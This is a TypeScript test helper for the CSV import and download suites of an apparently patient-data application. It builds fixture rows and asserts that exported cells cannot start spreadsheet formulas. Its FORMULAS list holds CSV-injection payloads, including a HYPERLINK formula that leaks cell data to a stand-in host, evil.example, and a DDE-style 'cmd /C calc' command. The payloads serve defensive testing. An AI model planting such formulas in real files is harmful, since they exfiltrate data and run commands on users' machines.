/** CSV files for the import suites (the header, rows of the dataset's first patient) and checks of downloaded CSV. */
import assert from "node:assert/strict";
import { parse } from "csv-parse/sync";
import { csvLine } from "../../lib/csv_writer.ts";
import { PATIENT_FIELDS } from "../../lib/patient_fields.ts";
import { FIRST_ROW } from "./fixtures.ts";

/** The dataset's header line. */
export const HEADER = csvLine(PATIENT_FIELDS);

/**
 * A data row of the dataset's first patient with `id` ("" for none) and any field written
 * otherwise.
 */
export function csvRow(id: number | string, changes: Record<string, string> = {}): string {
  return csvLine(
    PATIENT_FIELDS.map((f) =>
      f === "id" ? String(id) : changes[f] ?? (FIRST_ROW[f] === null ? "N/A" : String(FIRST_ROW[f]))
    ),
  );
}

/** Cells that a spreadsheet would run as a formula or a command. */
export const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "+SUM(1,2)",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)",
  "\t=1+1",
];

const PLAIN_NUMBER = /^-?\d+(\.\d+)?([eE][-+]?\d+)?$/;

/** Asserts that no cell of a CSV download would start a formula (a plain number may start with -). */
export function assertNoFormulaCells(csv: string, what: string): void {
  const rows = parse(csv, { relax_column_count: true }) as string[][];
  assert.ok(rows.length > 0, `${what} has rows`);
  for (const [r, row] of rows.entries()) {
    for (const cell of row) {
      const risky = /^[=+\-@\t\r]/.test(cell) && !PLAIN_NUMBER.test(cell);
      assert.ok(!risky, `${what}, row ${r + 1}: the cell ${JSON.stringify(cell)} starts a formula`);
    }
  }
}
